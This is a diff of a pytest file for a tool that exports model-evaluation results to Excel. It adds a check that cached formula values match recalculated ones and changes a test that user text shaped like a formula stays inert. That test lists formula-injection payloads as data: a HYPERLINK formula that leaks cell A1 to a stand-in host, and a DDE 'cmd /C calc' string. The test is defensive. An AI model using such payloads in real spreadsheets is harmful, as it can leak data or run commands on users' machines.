@@ -181,6 +181,26 @@ def test_checks_and_decision_are_live(cases, name):
         assert got[recommendation_name(i)] == want
 
 
+@pytest.mark.parametrize("name", [p.stem for p in SCENARIOS])
+def test_every_cached_value_is_what_libreoffice_computes(cases, name):
+    """The value stored beside each formula (what pandas, previews and data_only readers see) equals the
+    recalculated one, on every sheet: the ranks, the lists of failures, the roofline and the sweep too."""
+    case = cases[name]
+    source, stored = openpyxl.load_workbook(case.source), openpyxl.load_workbook(case.source, data_only=True)
+    got = openpyxl.load_workbook(case.values, data_only=True)
+    formulas, wrong = 0, []
+    for ws in source:
+        for row in ws.iter_rows():
+            for c in row:
+                if c.data_type != "f":
+                    continue
+                formulas += 1
+                cached, recalculated = stored[ws.title][c.coordinate].value, got[ws.title][c.coordinate].value
+                if not same(recalculated, cached if cached != "" else None):
+                    wrong.append((ws.title, c.coordinate, cached, recalculated))
+    assert formulas > 100 and wrong == []
+
+
 def test_a_failed_requirement_is_a_finding_not_a_failed_model(cases):
     got = named_values(cases["ref-finetune-7b"].source, cases["ref-finetune-7b"].values)
     assert got[MASTER] is True
@@ -322,9 +342,10 @@ def test_user_text_that_looks_like_a_formula_stays_text():
     data = workbook_bytes(scenario_results(HOSTILE))
     with zipfile.ZipFile(io.BytesIO(data)) as z:
         xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
+        strings = z.read("xl/sharedStrings.xml").decode()
     formulas = re.findall(r"<f>(.*?)</f>", xml)
     assert formulas and not any(bad in f for f in formulas for bad in ("HYPERLINK", "1+1", "SUM(1)", "cmd", "2+3"))
-    texts = re.findall(r"<t>(.*?)</t>", xml)
+    texts = re.findall(r"<t(?: [^>]*)?>(.*?)</t>", strings)
     for hostile in ('=HYPERLINK("http://example.invalid/?leak="&amp;A1,"click me")', "=1+1", "@SUM(1)"):
         assert hostile in texts, hostile
     for inside in ('=HYPERLINK("http://example.invalid")', "+cmd|' /C calc'!A0", "-2+3"):
@@ -384,7 +405,7 @@ def test_same_scenario_same_bytes():
     first, second = workbook_bytes(r), workbook_bytes(results_of("chat-70b-fp8"))
     assert first == second
     with zipfile.ZipFile(io.BytesIO(first)) as z:
-        assert {i.date_time for i in z.infolist()} == {(2026, 12, 2, 0, 0, 0)}
+        assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}      # XlsxWriter's fixed date
         assert b"2026-12-02T00:00:00Z" in z.read("docProps/core.xml")
 
 
